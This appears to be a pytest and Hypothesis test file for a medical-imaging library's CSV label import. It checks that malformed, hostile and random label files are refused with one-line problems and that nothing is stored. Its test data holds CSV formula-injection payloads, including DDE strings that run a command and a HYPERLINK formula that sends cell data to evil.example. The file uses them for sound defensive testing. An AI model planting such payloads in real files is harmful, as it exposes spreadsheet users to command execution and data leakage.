"""Hostile label files (the case library's CSV import): random bytes, wrong encodings, BOMs,
huge fields, spreadsheet formulas, missing and extra columns, duplicate and unknown case ids.

Each gets either a clean parse or a list of one-line problems: HTTP 400 through the API and
the import page, exit code 1 with one stderr line per problem through the command, and never
a partial import (a bad label file stops the import before anything is stored).
"""

from __future__ import annotations

import html
import io
import tempfile
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.management import call_command
from django.core.management.base import CommandError
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from library.labels import (
    FORMULA_STARTS,
    MAX_KEY_CHARS,
    MAX_LABEL_CHARS,
    MAX_SPLIT_CHARS,
    LabelsError,
    parse_labels_csv,
)
from library.models import Case, CaseLabel, Collection
from tests.library.upload_helpers import ct_dataset, part10_bytes

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]
CASE_IDS = ["scan-a", "scan-b", "scan-a.dcm", "dir/scan-b", "SCAN-A", "no-such-case", ""]
LABELS = ["Mass", "Nodule|Mass", "No Finding", "", "Effusion|", "x" * (MAX_LABEL_CHARS + 1)]
SPLITS = ["train", "test", "", "x" * (MAX_SPLIT_CHARS + 1)]
COLUMNS = ["case", "label", "mask", "split", "notes", "Image Index", "Finding Labels", "Path"]

plain = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12
)
cell = st.one_of(
    plain,
    st.sampled_from(FORMULAS),
    st.sampled_from(["-1.0", "1", "0.0", "-1", "1e5", "", " ", '"', "a,b", "line\nbreak"]),
    st.sampled_from(CASE_IDS + LABELS + SPLITS),
    st.just("h" * 140_000),  # over the csv module's field limit
)


@st.composite
def label_files(draw) -> bytes:
    """Label files from valid to hostile, encoded in assorted ways."""
    mode = draw(st.sampled_from(["bytes", "valid", "valid", "hostile", "hostile", "hostile"]))
    if mode == "bytes":
        return draw(st.binary(max_size=600))
    if mode == "valid":
        header = ["case", "label"] + draw(st.sampled_from([[], ["split"], ["notes", "split"]]))
        keys = draw(st.permutations(["scan-a", "scan-b"]))[: draw(st.integers(1, 2))]
        rows = [
            [key, draw(st.sampled_from(["Mass", "Nodule|Mass", "No Finding"]))]
            + [draw(st.sampled_from(["train", "test", "", "note, quoted"])) for _ in header[2:]]
            for key in keys
        ]
        if draw(st.booleans()):  # one hostile cell in an otherwise valid file
            row = draw(st.integers(0, len(rows) - 1))
            rows[row][draw(st.integers(0, len(header) - 1))] = draw(cell)
    else:
        header = draw(st.lists(st.sampled_from(COLUMNS) | plain, min_size=0, max_size=6))
        if draw(st.booleans()):
            header = ["case", "label"] + header[:3]
        rows = []
        for _ in range(draw(st.integers(0, 6))):
            width = len(header) + draw(st.sampled_from([0, 0, 0, -1, 1, 2]))
            row = []
            for column in range(max(0, width)):
                name = header[column] if column < len(header) else ""
                pool = {"case": CASE_IDS, "label": LABELS, "split": SPLITS}.get(name)
                row.append(draw(st.sampled_from(pool) | cell) if pool else draw(cell))
            rows.append(row)
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    lines = [delimiter.join(_quoted(v, delimiter) for v in line) for line in [header, *rows]]
    text = newline.join(lines) + draw(st.sampled_from(["", newline, newline * 3]))
    encodings = ["utf-8", "utf-8-sig", "cp1252", "latin-1"] + (["utf-16"] if mode != "valid" else [])
    return text.encode(draw(st.sampled_from(encodings)), errors="replace")


def _quoted(value: str, delimiter: str) -> str:
    if any(ch in value for ch in (delimiter, '"', "\n", "\r")):
        return '"' + value.replace('"', '""') + '"'
    return value


def _is_formula(value: str) -> bool:
    text = value.strip()
    if not text.startswith(FORMULA_STARTS):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def assert_one_line_problems(problems: list[str]) -> None:
    assert problems
    for problem in problems:
        assert isinstance(problem, str) and problem.strip()
        assert len(problem.splitlines()) == 1, problem[:200]
        assert len(problem) < 1000, problem[:200]


# --------------------------------------------------------------------------- the parser


@hypothesis_settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(data=label_files())
def test_any_label_file_parses_cleanly_or_lists_one_line_problems(data):
    try:
        fmt, rows = parse_labels_csv(data)
    except LabelsError as exc:
        assert_one_line_problems(exc.problems)
        return
    assert fmt in ("generic", "chestxray14", "chexpert") and rows
    keys = [row.case_key for row in rows]
    assert len(keys) == len(set(keys))
    for row in rows:
        assert row.case_key and len(row.case_key) <= MAX_KEY_CHARS
        assert not _is_formula(row.case_key)
        for name in row.labels:
            assert name and len(name) <= MAX_LABEL_CHARS and not _is_formula(name)
        assert len(row.split or "") <= MAX_SPLIT_CHARS and not _is_formula(row.split or "")
        assert not _is_formula(row.mask or "")


@hypothesis_settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(data=st.binary(max_size=2000))
def test_random_bytes_never_escape_as_anything_but_labels_errors(data):
    try:
        parse_labels_csv(data)
    except LabelsError as exc:
        assert_one_line_problems(exc.problems)


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["case", "label", "split", "mask", "notes"])
def test_a_spreadsheet_formula_in_any_column_is_refused_naming_row_and_column(formula, column):
    values = {"case": "scan-a", "label": "Mass", "split": "test", "mask": "", "notes": "ok"}
    values[column] = formula
    text = "case,label,split,mask,notes\n" + ",".join(
        _quoted(values[c], ",") for c in ["case", "label", "split", "mask", "notes"]
    )
    with pytest.raises(LabelsError) as info:
        parse_labels_csv(text.encode())
    assert info.value.problems == [
        f"row 2: column '{column}' holds '{formula.strip()}', "
        "which a spreadsheet would run as a formula; refused"
    ]


def test_negative_numbers_are_not_mistaken_for_formulas():
    text = "Path,No Finding,Edema,Cardiomegaly,Atelectasis\nx/a.jpg,-1.0,1.0,0.0,-1\n"
    fmt, rows = parse_labels_csv(text.encode())
    assert fmt == "chexpert" and rows[0].labels == {"No Finding": -1, "Edema": 1, "Cardiomegaly": 0, "Atelectasis": -1}


@pytest.mark.parametrize(
    "data, fragment",
    [
        ("case,label\nscan-a,Mass\n".encode("utf-16"), "UTF-16"),
        (b"case,label\nscan-a," + b"M" * 200_000 + b"\n", "field larger than field limit"),
        (b"case,label\nscan-a,Mass\x00\n" + b"x" * 9000, "binary, not CSV text"),
        (b"case;label\nscan-b;Mass\n" + b"y;Mass\n" * 2000 + b"scan-a;Ma\x00ss\n", "binary, not CSV text"),
        (b"id,diagnosis\nscan-a,Mass\n", "matches no known layout"),
        (b"case,label\nscan-a,Mass,extra,more\n", "4 fields but the header has 2 columns"),
        (b"case,label\nscan-a,Mass\nscan-a,Nodule\n", "row 3: case 'scan-a' already appears in row 2"),
        (b"case,label,split\nscan-a,Mass," + b"s" * 17 + b"\n", "split 'sssssssssssssssss' has 17 characters, the limit is 16"),
        (b"case,label\n" + b"k" * 300 + b",Mass\n", "has 300 characters, the limit is 255"),
        (b"case,label\nscan-a," + b"L" * 101 + b"\n", "has 101 characters, the limit is 100"),
        (b"case,label,case\nscan-a,Mass,scan-a\n", "column 'case' appears twice in the header"),
    ],
)
def test_each_kind_of_bad_label_file_gets_its_own_one_line_problem(data, fragment):
    with pytest.raises(LabelsError) as info:
        parse_labels_csv(data)
    assert_one_line_problems(info.value.problems)
    assert any(fragment in problem for problem in info.value.problems), info.value.problems


def test_a_utf8_bom_and_cp1252_text_are_read_as_text():
    assert parse_labels_csv("\ufeffcase,label\nscan-é,Mass\n".encode("utf-8"))[1][0].case_key == "scan-é"
    assert parse_labels_csv("case,label\nscan-é,Mass\n".encode("cp1252"))[1][0].case_key == "scan-é"


def test_problems_echo_huge_values_cut_short():
    key = "k" * 5000
    with pytest.raises(LabelsError) as info:
        parse_labels_csv(f"Image Index,Finding Labels\n{key},{'Z' * 5000}\n".encode())
    assert_one_line_problems(info.value.problems)
    assert all(len(problem) < 200 for problem in info.value.problems)


# --------------------------------------------------------------------------- upload paths

IMAGES = {"scan-a.dcm": None, "scan-b.dcm": None}


def _images() -> dict[str, bytes]:
    if IMAGES["scan-a.dcm"] is None:
        IMAGES["scan-a.dcm"] = part10_bytes(ct_dataset(6, 5))
        second = ct_dataset(5, 6)
        second.SOPInstanceUID = second.file_meta.MediaStorageSOPInstanceUID = "1.2.826.0.1.3680043.9.7.9"
        IMAGES["scan-b.dcm"] = part10_bytes(second)
    return dict(IMAGES)


def _uploads(files: dict[str, bytes]) -> list[io.BytesIO]:
    out = []
    for name, data in files.items():
        handle = io.BytesIO(data)
        handle.name = name
        out.append(handle)
    return out


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def sandbox(tmp_path, settings, monkeypatch) -> Path:
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    settings.FILE_UPLOAD_TEMP_DIR = str(folder)
    return folder


@pytest.fixture
def collection(db) -> Collection:
    return Collection.objects.create(name="labels")


@pytest.fixture
def api(coordinator) -> APIClient:
    client = APIClient()
    client.force_authenticate(coordinator)
    return client


def _media_files() -> list[Path]:
    return [p for p in Path(default_storage.location).rglob("*") if p.is_file()]


def _clear_imported() -> None:
    for case in Case.objects.all():
        for field in ("source_file", "pixels_file", "pixels_encoded_file", "display_file", "thumbnail_file"):
            if getattr(case, field).name:  # a colour case has no encoded pixels
                default_storage.delete(getattr(case, field).name)
    Case.objects.all().delete()


def test_label_files_through_the_api_import_whole_or_store_nothing(api, collection, sandbox):
    outcomes = {"imported": 0, "refused": 0}

    @hypothesis_settings(
        max_examples=60,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(data=label_files())
    def one_request(data):
        response = api.post(
            f"/api/v1/collections/{collection.pk}/import/",
            {"files": _uploads(_images()), "labels": _uploads({"labels.csv": data})[0]},
            format="multipart",
        )
        assert response.status_code in (201, 400), (response.status_code, response.content[:300])
        body = response.json()
        if response.status_code == 400:
            outcomes["refused"] += 1
            assert_one_line_problems(body["problems"])
            assert all(p.startswith("labels.csv: ") for p in body["problems"]), body["problems"]
            assert str(sandbox) not in response.content.decode()
            assert not Case.objects.exists() and _media_files() == []
        else:
            outcomes["imported"] += 1
            assert body["imported"] == 2 and body["labels_format"]
            for label in CaseLabel.objects.all():
                assert not _is_formula(label.name) and len(label.name) <= MAX_LABEL_CHARS
            _clear_imported()
        assert list(sandbox.iterdir()) == []

    one_request()
    print(f"labels through the API: {outcomes}")
    assert outcomes["refused"] > 0 and outcomes["imported"] > 0


def test_a_valid_label_file_through_the_api_labels_both_cases(api, collection, sandbox):
    labels = b"case,label,split\nscan-a,Mass,test\nscan-b,No Finding,train\n"
    response = api.post(
        f"/api/v1/collections/{collection.pk}/import/",
        {"files": _uploads(_images()), "labels": _uploads({"labels.csv": labels})[0]},
        format="multipart",
    )
    assert response.status_code == 201, response.json()
    assert dict(CaseLabel.objects.values_list("case__key", "name")) == {
        "scan-a": "Mass",
        "scan-b": "No Finding",
    }
    assert dict(Case.objects.values_list("key", "split")) == {"scan-a": "test", "scan-b": "train"}


def test_the_import_page_lists_every_label_problem_and_stores_nothing(client, coordinator, collection, sandbox):
    client.force_login(coordinator)
    labels = (
        b"case,label\n"
        b"=cmd|' /C calc'!A0,Mass\n"
        b"scan-a,@SUM(1+1)\n"
        b"no-such-case,Mass\n"
    )
    response = client.post(
        f"/library/collections/{collection.pk}/import/",
        {"files": _uploads(_images()), "labels": _uploads({"labels.csv": labels})[0]},
    )
    assert response.status_code in (200, 400)
    text = html.unescape(response.content.decode())
    assert "labels.csv: row 2: column 'case' holds '=cmd|' /C calc'!A0'" in text
    assert "labels.csv: row 3: column 'label' holds '@SUM(1+1)'" in text
    assert not Case.objects.exists() and _media_files() == []
    assert list(sandbox.iterdir()) == []


def test_a_label_file_over_the_byte_limit_is_refused_unread(api, collection, sandbox, settings):
    settings.XRS_IMPORT_MAX_BYTES = 2048
    labels = b"case,label\nscan-a,Mass\n" + b"scan-b,Nodule\n" * 200
    response = api.post(
        f"/api/v1/collections/{collection.pk}/import/",
        {"files": _uploads({"x.dcm": b"\x00" * 10}), "labels": _uploads({"labels.csv": labels})[0]},
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json()["problems"] == [
        "labels.csv: the labels file is over the limit of 2,048 bytes"
    ]
    assert not Case.objects.exists() and list(sandbox.iterdir()) == []


def test_unknown_case_ids_stop_the_upload_before_anything_is_stored(api, collection, sandbox):
    labels = b"case,label\nscan-a,Mass\nscan-z,Nodule\nscan-y,Mass\n"
    response = api.post(
        f"/api/v1/collections/{collection.pk}/import/",
        {"files": _uploads(_images()), "labels": _uploads({"labels.csv": labels})[0]},
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json()["problems"] == [
        "labels.csv: row 3: case 'scan-z' matches no imported file",
        "labels.csv: row 4: case 'scan-y' matches no imported file",
    ]
    assert not Case.objects.exists() and _media_files() == []


# --------------------------------------------------------------------------- the command


@pytest.fixture
def image_folder(tmp_path) -> Path:
    folder = tmp_path / "images"
    folder.mkdir()
    for name, data in _images().items():
        (folder / name).write_bytes(data)
    return folder


def test_label_files_through_the_command_exit_1_with_one_line_per_problem(image_folder, tmp_path):
    outcomes = {"imported": 0, "refused": 0}

    @hypothesis_settings(
        max_examples=40,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(data=label_files())
    def one_run(data):
        labels = tmp_path / "labels.csv"
        labels.write_bytes(data)
        err = io.StringIO()
        try:
            call_command(
                "import_cases", str(image_folder), collection="c", labels=str(labels),
                no_progress=True, stderr=err, stdout=io.StringIO(),
            )
        except CommandError as exc:
            outcomes["refused"] += 1
            assert exc.returncode == 1
            lines = err.getvalue().splitlines()
            assert_one_line_problems(lines)
            assert all(line.startswith("labels.csv: ") for line in lines), lines
            assert str(exc) == f"{len(lines)} problem(s); nothing was changed"
            assert not Case.objects.exists() and _media_files() == []
        else:
            outcomes["imported"] += 1
            _clear_imported()

    one_run()
    print(f"labels through the command: {outcomes}")
    assert outcomes["refused"] > 0 and outcomes["imported"] > 0
